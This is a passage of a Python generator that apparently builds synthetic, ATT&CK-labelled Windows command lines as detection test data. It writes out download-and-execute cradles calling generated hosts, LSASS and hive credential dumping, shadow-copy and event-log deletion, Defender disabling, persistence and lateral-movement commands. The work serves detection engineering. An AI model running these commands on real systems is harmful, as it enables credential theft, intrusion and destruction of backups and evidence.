        cmd = f"bitsadmin {G.c(['/transfer', '/TRANSFER'])} {job} {G.c(['/download ', ''])}{G.c(['/priority high ', '/priority normal ', '/priority foreground ', ''])}{url()} {dst}"
    else:
        cmd = f"bitsadmin /addfile {job} {url()} {dst}"
    return with_parent({"img": SYS + "\\bitsadmin.exe", "cmd": G.c(["", "C:\\Windows\\system32\\"]) + cmd}, cmd, c)


def cradle_text():
    u = url(ext=G.c([".ps1", "", ".txt", ".png"]))
    return G.c([
        f"IEX (New-Object Net.WebClient).DownloadString('{u}')",
        f"iex(new-object net.webclient).downloadstring(\"{u}\")",
        f"$w=New-Object System.Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0');IEX $w.DownloadString('{u}')",
        f"IEX ([Text.Encoding]::UTF8.GetString((Invoke-WebRequest -UseBasicParsing '{u}').Content))",
        f"$s=(iwr '{u}' -UseBasicParsing).Content;iex $s",
        f"[Net.ServicePointManager]::SecurityProtocol='tls12';IEX(New-Object Net.WebClient).DownloadString('{u}')",
    ])


@M("win-powershell-encoded-cradle", "windows", ["T1059.001", "T1027"], "execution",
    "hidden, profile-less PowerShell with a base64 UTF-16LE command that downloads and runs a script from an untrusted host")
def _(c):
    enc = utf16_b64(cradle_text())
    flag = G.c(["-enc", "-e", "-EncodedCommand", "-ec", "-En", "-encodedcommand"])
    cmd = f"{psexe()} {pflags()} {flag} {enc}"
    return with_parent({"img": PS, "cmd": cmd}, cmd, c)


@M("win-powershell-iex-downloadstring", "windows", ["T1059.001", "T1105"], "execution",
    "PowerShell Invoke-Expression of a script fetched over HTTP from a bare IP or young domain: a download cradle in the clear")
def _(c):
    body = cradle_text()
    cmd = f"{psexe()} {pflags()} {G.c(['-c', '-Command', '-command', ''])} \"{body}\"".replace("  ", " ")
    return with_parent({"img": PS, "cmd": cmd}, cmd, c)


@M("win-mshta-remote-hta", "windows", ["T1218.005"], "defense-evasion",
    "mshta running an HTA from a remote URL or inline VBScript that launches a shell: signed-binary proxy execution")
def _(c):
    if R.random() < 0.6:
        cmd = f"{G.c(['mshta', 'mshta.exe', '' + Q + 'C:' + BS + 'Windows' + BS + 'System32' + BS + 'mshta.exe' + Q + '', 'C:' + BS + 'Windows' + BS + 'SysWOW64' + BS + 'mshta.exe'])} {url(ext=G.c(['.hta', '', '.html']))}"
    else:
        inner = G.c([f"powershell -w hidden -c iex(iwr {url(ext='.ps1')} -useb)", f"cmd /c certutil -urlcache -f {url()} %TEMP%\\{drop_name()}"])
        cmd = f"mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"{inner}\"\",0:close\")"
    return with_parent({"img": SYS + "\\mshta.exe", "cmd": cmd}, cmd, c)


@M("win-regsvr32-scrobj-remote", "windows", ["T1218.010"], "defense-evasion",
    "regsvr32 loading scrobj.dll with /i pointing at a remote scriptlet: the squiblydoo proxy execution")
def _(c):
    parts = [G.c(["/s", "-s"]), G.c(["/n", "-n"]), G.c(["/u", "-u"]), f"{G.c(['/i:', '-i:', '/I:'])}{url(ext=G.c(['.sct', '.txt', '.jpg', '']))}"]
    R.shuffle(parts)
    cmd = f"{G.c(['regsvr32', 'regsvr32.exe', 'C:' + BS + 'Windows' + BS + 'System32' + BS + 'regsvr32.exe'])} {' '.join(parts)} {G.c(['scrobj.dll', 'scrobj', 'SCROBJ.DLL'])}"
    return with_parent({"img": SYS + "\\regsvr32.exe", "cmd": cmd}, cmd, c)


@M("win-rundll32-javascript-mshtml", "windows", ["T1218.011"], "defense-evasion",
    "rundll32 abusing mshtml RunHTMLApplication to run inline JavaScript that pulls a remote scriptlet or spawns a shell")
def _(c):
    u = url(ext=G.c([".sct", ".txt", ""]))
    js = G.c([f"document.write();GetObject(\"script:{u}\")",
              f"document.write();new%20ActiveXObject(\"WScript.Shell\").Run(\"powershell -nop -w hidden -c iex(iwr '{url(ext='.ps1')}')\")",
              f"eval(\"w=new%20ActiveXObject(\\\"WScript.Shell\\\");w.run(\\\"cmd /c {drop_name()}\\\",0)\")"])
    cmd = f"rundll32.exe javascript:\"\\..\\mshtml{G.c([',RunHTMLApplication ', ',#135 ', ', RunHTMLApplication '])}\";{js}"
    return with_parent({"img": SYS + "\\rundll32.exe", "cmd": cmd}, cmd, c)


@M("win-rundll32-url-advpack-proxy", "windows", ["T1218.011"], "defense-evasion",
    "rundll32 calling url.dll, ieframe.dll, advpack.dll or zipfldr.dll exports to launch a payload from a user-writable path or a remote INF")
def _(c):
    p = f"{user_drop_dir(c)}\\{drop_name(G.c(['.exe', '.hta', '.inf', '.url']))}"
    cmd = G.c([f"rundll32.exe url.dll,OpenURL {p}", f"rundll32.exe url.dll,FileProtocolHandler {p}",
               f"rundll32 advpack.dll,LaunchINFSection {p},DefaultInstall_SingleUser,1,",
               f"rundll32.exe ieframe.dll,OpenURL {p}", f"rundll32.exe zipfldr.dll,RouteTheCall {p}",
               f"rundll32 advpack.dll,RegisterOCX {p}", f"rundll32.exe shell32.dll,ShellExec_RunDLL {p}"])
    return with_parent({"img": SYS + "\\rundll32.exe", "cmd": cmd}, cmd, c)


@M("win-comsvcs-minidump-lsass", "windows", ["T1003.001"], "credential-access",
    "rundll32 calling comsvcs.dll MiniDump on the lsass pid: an LSASS memory dump for offline credential extraction")
def _(c):
    out = G.c([f"{user_drop_dir(c)}\\{G.c(['lsass', 'out', 'debug', 'tmp', 'mem', 'a'])}.{G.c(['dmp', 'bin', 'zip', 'log'])}", "C:\\Windows\\Temp\\l.dmp"])
    pid = R.randrange(600, 1200, 4)
    cmd = f"{G.c(['rundll32.exe', 'rundll32', 'C:' + BS + 'Windows' + BS + 'System32' + BS + 'rundll32.exe'])} {G.c(['C:' + BS + 'Windows' + BS + 'System32' + BS + 'comsvcs.dll', 'comsvcs.dll', 'C:' + BS + 'windows' + BS + 'system32' + BS + 'comsvcs.dll'])}{G.c([', MiniDump', ',MiniDump', ', #24', ',#+0000^24'])} {pid} {out} full"
    pimg, pcmd = G.c([cmd_wrap(cmd), ps_wrap(f"& rundll32.exe comsvcs.dll,MiniDump {pid} {out} full")])
    return {"img": SYS + "\\rundll32.exe", "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "run": G.c(["useradmin", "system", "admin"])}


@M("win-procdump-lsass", "windows", ["T1003.001"], "credential-access",
    "Sysinternals procdump writing a full memory dump of lsass.exe, a standard credential-theft step")
def _(c):
    d = G.c([user_drop_dir(c), "C:\\Windows\\Temp", "C:\\PerfLogs"])
    exe = f"{d}\\{G.c(['procdump64.exe', 'procdump.exe', 'pd64.exe', 'pd.exe'])}"
    cmd = f"{G.c([exe, basename(exe)])} {G.c(['-accepteula ', '/accepteula ', ''])}{G.c(['-ma', '-mm -ma', '-r -ma', '-ma -64'])} {G.c(['lsass.exe', 'lsass', str(R.randrange(600, 1200, 4))])} {d}\\{G.c(['lsass.dmp', 'out.dmp', 'l.dmp', 'mem.bin'])}"
    pimg, pcmd = cmd_wrap(cmd)
    return {"img": exe, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "run": G.c(["useradmin", "admin", "system"]), "cwd": d + "\\"}


@M("win-mimikatz-commands", "windows", ["T1003.001", "T1003.002"], "credential-access",
    "mimikatz (often renamed) run with sekurlsa or lsadump modules to dump credentials from memory or the SAM")
def _(c):
    d = G.c([user_drop_dir(c), "C:\\Windows\\Temp", "C:\\PerfLogs", "C:\\ProgramData"])
    exe = f"{d}\\{G.c(['mimikatz.exe', 'mimi.exe', 'm64.exe', 'mk.exe', 'netsvc.exe', G.name(5) + '.exe'])}"
    mods = G.c([["privilege::debug", "sekurlsa::logonpasswords"], ["privilege::debug", "token::elevate", "lsadump::sam"],
                ["sekurlsa::logonpasswords full"], ["privilege::debug", "sekurlsa::ekeys"], ["lsadump::lsa /patch"],
                ["privilege::debug", "lsadump::secrets"], ["log c:\\programdata\\out.txt", "privilege::debug", "sekurlsa::logonpasswords"]])
    cmd = f"{G.c([exe, basename(exe), chr(34) + exe + chr(34)])} " + " ".join(f"\"{m}\"" if " " in m or R.random() < 0.5 else m for m in mods) + G.c([" exit", " \"exit\"", ""])
    pimg, pcmd = G.c([cmd_wrap(cmd), interactive_shell()])
    return {"img": exe, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "run": G.c(["useradmin", "admin", "system"]), "cwd": d + "\\"}


@M("win-reg-save-hives", "windows", ["T1003.002"], "credential-access",
    "reg save of the SAM, SYSTEM or SECURITY hive to a temp or public path: offline extraction of local password hashes")
def _(c):
    hive = G.c(["HKLM\\SAM", "HKLM\\SYSTEM", "HKLM\\SECURITY", "hklm\\sam", "hklm\\system", "HKEY_LOCAL_MACHINE\\SAM"])
    out = f"{G.c(['C:' + BS + 'Windows' + BS + 'Temp', 'C:' + BS + 'Users' + BS + 'Public', 'C:' + BS + 'ProgramData', user_drop_dir(c), 'C:' + BS + 'PerfLogs'])}\\{G.c([hive.split(chr(92))[-1].lower(), 's', 'sys', 'sec', G.name(3)])}{G.c(['.save', '.hiv', '.dat', '', '.tmp'])}"
    cmd = f"{G.c(['reg', 'reg.exe', 'C:' + BS + 'Windows' + BS + 'system32' + BS + 'reg.exe'])} save {hive} {out}{G.c(['', ' /y'])}"
    pimg, pcmd = cmd_wrap(cmd)
    return {"img": SYS + "\\reg.exe", "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "run": G.c(["useradmin", "admin", "system"])}


@M("win-ntdsutil-ifm", "windows", ["T1003.003"], "credential-access",
    "ntdsutil creating an IFM snapshot of the AD database on a domain controller into a staging folder: NTDS.dit theft")
def _(c):
    c.host = G.c(["DC01", "DC02", "DC-EU1"])
    c.fqdn = f"{c.host}.{c.suffix}"
    c.server = True
    out = G.c(["C:\\Windows\\Temp\\ifm", "C:\\ProgramData\\ntds", "C:\\PerfLogs\\x", "C:\\Users\\Public\\ad", "c:\\temp\\" + G.name(3)])
    cmd = G.c([f"ntdsutil \"ac i ntds\" \"ifm\" \"create full {out}\" q q", f"ntdsutil.exe \"activate instance ntds\" ifm \"create full {out}\" quit quit",
               f"ntdsutil \"ac in ntds\" ifm \"cr fu {out}\" q q", f"ntdsutil \"activate instance ntds\" \"ifm\" \"create sysvol full {out}\" \"quit\" \"quit\""])
    pimg, pcmd = G.c([cmd_wrap(cmd), interactive_shell(), ("C:\\Windows\\System32\\wsmprovhost.exe", "C:\\Windows\\system32\\wsmprovhost.exe -Embedding")])
    return {"img": SYS + "\\ntdsutil.exe", "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "run": G.c(["admin", "system"])}


@M("win-shadow-copy-ntds-copy", "windows", ["T1003.003", "T1006"], "credential-access",
    "copying ntds.dit or the SYSTEM hive out of a volume shadow copy device path: the classic DC credential theft sequence")
def _(c):
    c.host = G.c(["DC01", "DC02", "DC-EU1"])
    c.fqdn = f"{c.host}.{c.suffix}"
    c.server = True
    n = R.randint(1, 9)
    src = G.c([f"\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy{n}\\Windows\\NTDS\\ntds.dit",
               f"\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy{n}\\Windows\\System32\\config\\SYSTEM"])
    dst = G.c(["C:\\Windows\\Temp\\", "C:\\ProgramData\\", "C:\\PerfLogs\\", "C:\\Users\\Public\\"]) + G.c(["n.dit", "ntds.dit", "sys.hiv", "s"])
    inner = f"copy {src} {dst}"
    cmd = f"{G.c(['cmd.exe', 'C:' + BS + 'Windows' + BS + 'system32' + BS + 'cmd.exe', 'cmd'])} {G.c(['/c', '/C'])} {inner}"
    pimg, pcmd = G.c([interactive_shell(), ("C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"),
                      ps_wrap(f"cmd /c {inner}")])
    return {"img": CMD, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "run": G.c(["admin", "system"])}


@M("win-shadow-backup-deletion", "windows", ["T1490"], "impact",
    "deleting shadow copies, the backup catalog or boot recovery: what ransomware does right before encrypting")
def _(c):
    k = R.randint(0, 5)
    if k == 0:
        img, cmd = SYS + "\\vssadmin.exe", f"{G.c(['vssadmin', 'vssadmin.exe', 'C:' + BS + 'Windows' + BS + 'system32' + BS + 'vssadmin.exe'])} {G.c(['delete shadows /all /quiet', 'Delete Shadows /All /Quiet', 'delete shadows /for=c: /all /quiet'])}"
    elif k == 1:
        img, cmd = SYS + "\\vssadmin.exe", f"vssadmin resize shadowstorage /for=c: /on=c: /maxsize={G.c(['401MB', '1%', 'unbounded'])}"
    elif k == 2:
        img, cmd = SYS + "\\wbem\\WMIC.exe", G.c(["wmic shadowcopy delete", "WMIC.exe shadowcopy delete /nointeractive", "wmic SHADOWCOPY DELETE"])
    elif k == 3:
        img, cmd = SYS + "\\wbadmin.exe", G.c(["wbadmin delete catalog -quiet", "wbadmin DELETE SYSTEMSTATEBACKUP -keepVersions:0", "wbadmin delete backup -quiet"])
    elif k == 4:
        img, cmd = SYS + "\\bcdedit.exe", G.c(["bcdedit /set {default} recoveryenabled No", "bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures",
                                               "bcdedit /set {default} recoveryenabled no"])
    else:
        img, cmd = PS, f"{psexe()} -c \"Get-WmiObject Win32_Shadowcopy | ForEach-Object {{$_.Delete()}}\""
    pimg, pcmd = G.c([cmd_wrap(cmd), cmd_wrap(cmd), ("C:\\Users\\Public\\" + drop_name(), "C:\\Users\\Public\\" + drop_name() + " -path C:\\ -net")])
    return {"img": img, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "run": G.c(["useradmin", "system", "admin"])}


@M("win-eventlog-clearing", "windows", ["T1070.001"], "defense-evasion",
    "clearing the Security, System or Sysmon event logs with wevtutil or Clear-EventLog: evidence removal")
def _(c):
    if R.random() < 0.65:
        log = G.c(["Security", "System", "Application", "Microsoft-Windows-Sysmon/Operational", "\"Windows PowerShell\"", "Microsoft-Windows-PowerShell/Operational"])
        img, cmd = SYS + "\\wevtutil.exe", f"{G.c(['wevtutil', 'wevtutil.exe'])} {G.c(['cl', 'clear-log', 'CL'])} {log}"
    else:
        img, cmd = PS, f"{psexe()} {G.c(['-c', '-Command', ''])} \"{G.c(['Clear-EventLog -LogName Security,System,Application', 'Get-EventLog -List | ForEach-Object {Clear-EventLog $_.Log}', 'wevtutil el | ForEach-Object {wevtutil cl $_}', 'Remove-EventLog -LogName Security'])}\""
    pimg, pcmd = cmd_wrap("for /F \"tokens=*\" %1 in ('wevtutil.exe el') DO wevtutil.exe cl \"%1\"") if R.random() < 0.3 else cmd_wrap(cmd)
    return {"img": img, "cmd": cmd.replace("  ", " "), "pimg": pimg, "pcmd": pcmd, "run": G.c(["useradmin", "system", "admin"])}


@M("win-usn-journal-delete", "windows", ["T1070"], "defense-evasion",
    "fsutil deleting the NTFS USN change journal, which destroys the record of file activity investigators rely on")
def _(c):
    cmd = f"{G.c(['fsutil', 'fsutil.exe'])} usn deletejournal {G.c(['/D', '/d', '/N', '/D /N'])} {G.c(['C:', 'c:', 'D:'])}"
    pimg, pcmd = cmd_wrap(cmd)
    return {"img": SYS + "\\fsutil.exe", "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "run": G.c(["useradmin", "system", "admin"])}


@M("win-defender-tampering", "windows", ["T1562.001"], "defense-evasion",
    "turning off Defender real-time protection or excluding user-writable paths and process names from scanning")
def _(c):
    body = G.c(["Set-MpPreference -DisableRealtimeMonitoring $true", "Set-MpPreference -DisableIOAVProtection $true -DisableBehaviorMonitoring $true",
                f"Add-MpPreference -ExclusionPath '{user_drop_dir(c)}'", "Add-MpPreference -ExclusionPath C:\\ -Force",
                f"Add-MpPreference -ExclusionProcess '{drop_name()}'", "Set-MpPreference -MAPSReporting 0 -SubmitSamplesConsent 2",
                "Add-MpPreference -ExclusionExtension '.exe','.dll'", "Set-MpPreference -DisableScriptScanning 1"])
    if R.random() < 0.2:
        img, cmd = SYS + "\\reg.exe", G.c(["reg add \"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\" /v DisableAntiSpyware /t REG_DWORD /d 1 /f",
                                            "reg add \"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection\" /v DisableRealtimeMonitoring /t REG_DWORD /d 1 /f"])
    else:
        img, cmd = PS, f"{psexe()} {G.c(['', '-nop ', '-ep bypass ', '-w hidden '])}{G.c(['-Command', '-c', ''])} \"{body}\"".replace("  ", " ")
    pimg, pcmd = cmd_wrap(cmd)
    return {"img": img, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "run": G.c(["useradmin", "system", "admin"])}


@M("win-firewall-disable", "windows", ["T1562.004"], "defense-evasion",
    "netsh turning the Windows firewall off for every profile or opening RDP/SMB to any address outside change control")
def _(c):
    cmd = G.c(["netsh advfirewall set allprofiles state off", "netsh advfirewall set currentprofile state off", "netsh firewall set opmode disable",
               "netsh.exe advfirewall set allprofiles state off", "netsh advfirewall firewall add rule name=\"allow rdp\" dir=in action=allow protocol=TCP localport=3389 remoteip=any",
               "netsh advfirewall set publicprofile state off"])
    pimg, pcmd = cmd_wrap(cmd)
    return {"img": SYS + "\\netsh.exe", "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "run": G.c(["useradmin", "system", "admin"])}


@M("win-netsh-portproxy", "windows", ["T1090"], "command-and-control",
    "netsh interface portproxy forwarding a local port to an internal RDP/SMB host or an external address: a pivot for tunnelled access")
def _(c):
    cmd = (f"netsh interface portproxy add v4tov4 listenport={G.c(['4444', '8443', '50050', '3390', '9001'])} "
           f"{G.c(['listenaddress=0.0.0.0 ', ''])}connectport={G.c(['3389', '445', '443', '22'])} connectaddress={G.c([G.lan(), G.ip()])}")
    pimg, pcmd = cmd_wrap(cmd)
    return {"img": SYS + "\\netsh.exe", "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "run": G.c(["useradmin", "system", "admin"])}


@M("win-schtasks-user-writable", "windows", ["T1053.005"], "persistence",
    "schtasks creating a logon, hourly or onstart task whose action runs a binary or script from AppData, Temp, Public or ProgramData")
def _(c):
    tgt = f"{user_drop_dir(c)}\\{drop_name(G.c(['.exe', '.bat', '.vbs', '.ps1']))}"
    if tgt.endswith(".ps1"):
        tr = f"powershell -w hidden -ep bypass -f {tgt}"
    elif tgt.endswith(".vbs"):
        tr = f"wscript.exe //B {tgt}"
    else:
        tr = tgt
    name = G.c(["MicrosoftEdgeUpdateTaskMachine", "OneDrive Standalone Update", "GoogleUpdateTaskUserS", "WindowsDefenderUpdate",
                "\\Microsoft\\Windows\\UpdateOrchestrator\\Refresh", "SystemHealth", G.name(8)])
    sched = G.c(["/sc onlogon", "/sc minute /mo 15", "/sc hourly", "/sc onstart", "/sc daily /st 09:00", "/SC ONIDLE /I 10"])
    parts = [f"/tn \"{name}\"", f"/tr \"{tr}\"" if " " in tr else f"/tr {tr}", sched]
    R.shuffle(parts)
    cmd = f"{G.c(['schtasks', 'schtasks.exe', 'SCHTASKS'])} /create {' '.join(parts)}{G.c([' /f', ' /F', '', ' /rl highest /f', ' /ru SYSTEM /f'])}"
    return with_parent({"img": SYS + "\\schtasks.exe", "cmd": cmd}, cmd, c)


@M("win-run-key-user-path", "windows", ["T1547.001"], "persistence",
    "reg add of a Run or RunOnce value whose data points at a program in a user-writable folder, under a name imitating a vendor")
def _(c):
    hive = G.c(["HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "HKCU\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce",
                "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "HKCU\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon"])
    tgt = f"{user_drop_dir(c)}\\{drop_name(G.c(['.exe', '.vbs', '.bat']))}"
    v = G.c(["OneDriveUpdate", "SecurityHealth", "AdobeUpdater", "ChromeUpdate", "Shell", "MSTeamsHelper", G.name(6)])
    data = tgt if not tgt.endswith(".vbs") else f"wscript.exe {tgt}"
    cmd = f"{G.c(['reg', 'reg.exe', 'REG'])} add {G.c([hive, chr(34) + hive + chr(34)])} /v {G.c([v, chr(34) + v + chr(34)])} /t REG_SZ /d \"{data}\" /f"
    return with_parent({"img": SYS + "\\reg.exe", "cmd": cmd}, cmd, c)


@M("win-service-temp-binpath", "windows", ["T1543.003"], "persistence",
    "sc create or sc config pointing a service binPath at a binary or a cmd /c chain in a temp, public or ProgramData folder")
def _(c):
    tgt = f"{G.c(['C:' + BS + 'Windows' + BS + 'Temp', 'C:' + BS + 'Users' + BS + 'Public', 'C:' + BS + 'ProgramData', user_drop_dir(c)])}\\{drop_name()}"
    name = G.c(["WinDefendUpd", "UpdateSvc", "MSUpdater", "svchost32", "SysMgmt", G.name(6)])
    bp = G.c([tgt, f"cmd.exe /c {tgt}", f"%COMSPEC% /Q /c {tgt}", f"{tgt} -service"])
    if R.random() < 0.6:
        cmd = f"{G.c(['sc', 'sc.exe'])} {G.c(['', '' + BS + '' + BS + '' + G.lan() + ' '])}create {name} binPath= \"{bp}\" {G.c(['start= auto', 'start= demand', 'type= own start= auto', ''])}".strip()
    else:
        cmd = f"sc config {G.c(['wuauserv', 'UevAgentService', 'AppMgmt', name])} binPath= \"{bp}\""
    pimg, pcmd = cmd_wrap(cmd)
    return {"img": SYS + "\\sc.exe", "cmd": cmd.replace("  ", " "), "pimg": pimg, "pcmd": pcmd, "run": G.c(["useradmin", "admin", "system"])}


@M("win-wmi-event-subscription", "windows", ["T1546.003"], "persistence",
    "creating a permanent WMI event filter and CommandLineEventConsumer that runs a payload on a timer or at startup")
def _(c):
    p = f"{user_drop_dir(c)}\\{drop_name()}"
    n = G.c(["Updater", "SCM Event Log Filter", "DSM Event Filter", G.name(7)])
    if R.random() < 0.5:
        img = SYS + "\\wbem\\WMIC.exe"
        cmd = G.c([f"wmic /NAMESPACE:\"\\\\root\\subscription\" PATH __EventFilter CREATE Name=\"{n}\", EventNameSpace=\"root\\cimv2\", QueryLanguage=\"WQL\", Query=\"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'\"",
                   f"wmic /NAMESPACE:\"\\\\root\\subscription\" PATH CommandLineEventConsumer CREATE Name=\"{n}\", ExecutablePath=\"{p}\", CommandLineTemplate=\"{p}\""])
    else:
        img = PS
        cmd = (f"{psexe()} -nop -c \"$f=Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{{Name='{n}';EventNamespace='root\\cimv2';QueryLanguage='WQL';"
               f"Query='SELECT * FROM __InstanceCreationEvent WITHIN 30 WHERE TargetInstance ISA ''Win32_LogonSession'''}};$c=Set-WmiInstance -Namespace root\\subscription -Class CommandLineEventConsumer "
               f"-Arguments @{{Name='{n}';CommandLineTemplate='{p}'}};Set-WmiInstance -Namespace root\\subscription -Class __FilterToConsumerBinding -Arguments @{{Filter=$f;Consumer=$c}}\"")
    pimg, pcmd = cmd_wrap(cmd)
    return {"img": img, "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "run": G.c(["useradmin", "admin", "system"])}


@M("win-wmic-remote-process-create", "windows", ["T1047", "T1021"], "lateral-movement",
    "wmic /node process call create starting a payload or encoded PowerShell on another host: WMI lateral movement")
def _(c):
    node = G.c([G.lan(), f"WS-{R.randint(10, 4999):04d}", "SRV-FS01", "SRV-APP02", f"{G.lan()}"])
    what = G.c([f"cmd.exe /c {G.c(['C:' + BS + 'Windows' + BS + 'Temp' + BS + '', 'C:' + BS + 'ProgramData' + BS + '', '' + BS + '' + BS + '' + G.lan() + '' + BS + 'c$' + BS + 'Users' + BS + 'Public' + BS + ''])}{drop_name()}",
                f"powershell -nop -w hidden -enc {utf16_b64(cradle_text())}",
                "cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__" + str(R.randint(1600000000, 1720000000)) + "." + str(R.randint(100000, 999999)) + " 2>&1",
                f"rundll32.exe C:\\ProgramData\\{G.name(5)}.dll,StartW"])
    auth = G.c(["", f"/user:{c.dom}\\{c.admin} /password:\"{G.c(['Winter2024!', 'P@ssw0rd1', 'Welcome123'])}\" "])
    cmd = f"{G.c(['wmic', 'wmic.exe', 'WMIC.exe'])} /node:{G.c([node, chr(34) + node + chr(34)])} {auth}process call create \"{what}\""
    pimg, pcmd = G.c([cmd_wrap(cmd), interactive_shell()])
    return {"img": SYS + "\\wbem\\WMIC.exe", "cmd": cmd, "pimg": pimg, "pcmd": pcmd, "run": G.c(["admin", "useradmin"])}


@M("win-wmiprvse-spawned-shell", "windows", ["T1047", "T1059.001"], "execution",
    "WmiPrvSE spawning PowerShell or cmd with an encoded, hidden or output-redirected command: the remote end of WMI execution")
def _(c):
    c.server = R.random() < 0.5
    if R.random() < 0.5:
        img, cmd = PS, f"{psexe()} {pflags()} -enc {utf16_b64(cradle_text())}"
    else:
        img, cmd = CMD, f"cmd.exe /Q /c {G.c(['whoami /all', 'ipconfig /all', 'net group ' + Q + 'domain admins' + Q + ' /domain', 'tasklist /v', 'dir C:' + BS + 'Users'])} 1> \\\\127.0.0.1\\ADMIN$\\__{R.randint(1600000000, 1720000000)}.{R.randint(100000, 999999)} 2>&1"
    return {"img": img, "cmd": cmd, "pimg": SYS + "\\wbem\\WmiPrvSE.exe", "pcmd": G.c(["C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", "C:\\Windows\\system32\\wbem\\wmiprvse.exe"]),
            "run": G.c(["admin", "system"]), "prun": "netsvc", "cwd": "C:\\Windows\\system32\\"}


@M("win-psexec-style-service", "windows", ["T1569.002", "T1021.002"], "lateral-movement",
    "a service binary dropped through ADMIN$ (PSEXESVC or a random name) spawning a shell or payload as SYSTEM on the target")
def _(c):
    c.server = R.random() < 0.5
    if R.random() < 0.4:
        pimg = "C:\\Windows\\PSEXESVC.exe"
    else:
        pimg = f"C:\\Windows\\{G.name(R.randint(6, 8), 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ')}.exe"
    img, cmd = G.c([(CMD, f"cmd.exe /c {G.c(['whoami', 'net localgroup administrators', 'C:' + BS + 'Windows' + BS + 'Temp' + BS + '' + drop_name(), 'powershell -nop -w hidden -enc ' + utf16_b64(cradle_text())])}"),
                    (PS, f"powershell.exe -nop -w hidden -enc {utf16_b64(cradle_text())}"),
                    ("C:\\Windows\\Temp\\" + drop_name(), "C:\\Windows\\Temp\\" + drop_name())])
    if img.startswith("C:\\Windows\\Temp"):
        cmd = img
    return {"img": img, "cmd": cmd, "pimg": pimg, "pcmd": pimg, "run": "system", "cwd": "C:\\Windows\\system32\\"}


@M("win-winrm-remote-shell", "windows", ["T1021.006"], "lateral-movement",
    "wsmprovhost (the WinRM remoting host) launching tools that download, dump or enumerate on the target: lateral movement over WinRM")
def _(c):
    c.server = True
    c.host = G.c(SRV_NAMES)
    c.fqdn = f"{c.host}.{c.suffix}"
    img, cmd = G.c([(SYS + "\\certutil.exe", f"\"C:\\Windows\\system32\\certutil.exe\" -urlcache -f {url()} C:\\Windows\\Temp\\{drop_name()}"),
                    (SYS + "\\rundll32.exe", f"\"C:\\Windows\\system32\\rundll32.exe\" C:\\Windows\\System32\\comsvcs.dll, MiniDump {R.randrange(600, 1200, 4)} C:\\Windows\\Temp\\m.bin full"),
                    (SYS + "\\reg.exe", "\"C:\\Windows\\system32\\reg.exe\" save HKLM\\SAM C:\\Windows\\Temp\\sam.sav"),
                    (f"C:\\Windows\\Temp\\{drop_name()}", None),
                    (SYS + "\\cmd.exe", f"\"C:\\Windows\\system32\\cmd.exe\" /c C:\\ProgramData\\{drop_name('.bat')}")])
    cmd = cmd or img
    return {"img": img, "cmd": cmd, "pimg": SYS + "\\wsmprovhost.exe", "pcmd": "C:\\Windows\\system32\\wsmprovhost.exe -Embedding", "run": "admin"}


OFFICE = [("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "WINWORD.EXE", ".docm"),
          ("C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "EXCEL.EXE", ".xlsm"),
          ("C:\\Program Files (x86)\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "WINWORD.EXE", ".doc"),
          ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "OUTLOOK.EXE", ""),
          ("C:\\Program Files\\Microsoft Office\\root\\Office16\\POWERPNT.EXE", "POWERPNT.EXE", ".pptm")]


@M("win-office-spawns-interpreter", "windows", ["T1204.002", "T1566.001"], "execution",
    "an Office application starting cmd, PowerShell, mshta, regsvr32, rundll32 or a script host: a malicious document's macro running")
def _(c):
    oimg, oname, ext = G.c(OFFICE)
    doc = f"{c.home}\\{G.c(['Downloads', 'AppData' + BS + 'Local' + BS + 'Microsoft' + BS + 'Windows' + BS + 'INetCache' + BS + 'Content.Outlook' + BS + '' + G.name(8).upper(), 'Desktop', 'Documents'])}\\{G.c(DOC_NAMES)}{ext or '.docm'}"
    pcmd = f"\"{oimg}\" /n \"{doc}\"" if oname != "OUTLOOK.EXE" else f"\"{oimg}\" "
    if oname == "EXCEL.EXE":
        pcmd = f"\"{oimg}\" \"{doc}\""
    img, cmd = G.c([(CMD, f"cmd.exe /c {G.c(['start /b powershell -w hidden -enc ' + utf16_b64(cradle_text()), 'certutil -urlcache -f ' + url() + ' %TEMP%' + BS + '' + drop_name() + ' & %TEMP%' + BS + '' + drop_name()])}"),
                    (PS, f"powershell {pflags()} -enc {utf16_b64(cradle_text())}"),
                    (SYS + "\\mshta.exe", f"mshta {url(ext='.hta')}"),
                    (SYS + "\\regsvr32.exe", f"regsvr32 /s {c.home}\\AppData\\Local\\Temp\\{G.name(6)}.{G.c(['dll', 'ocx', 'dat'])}"),
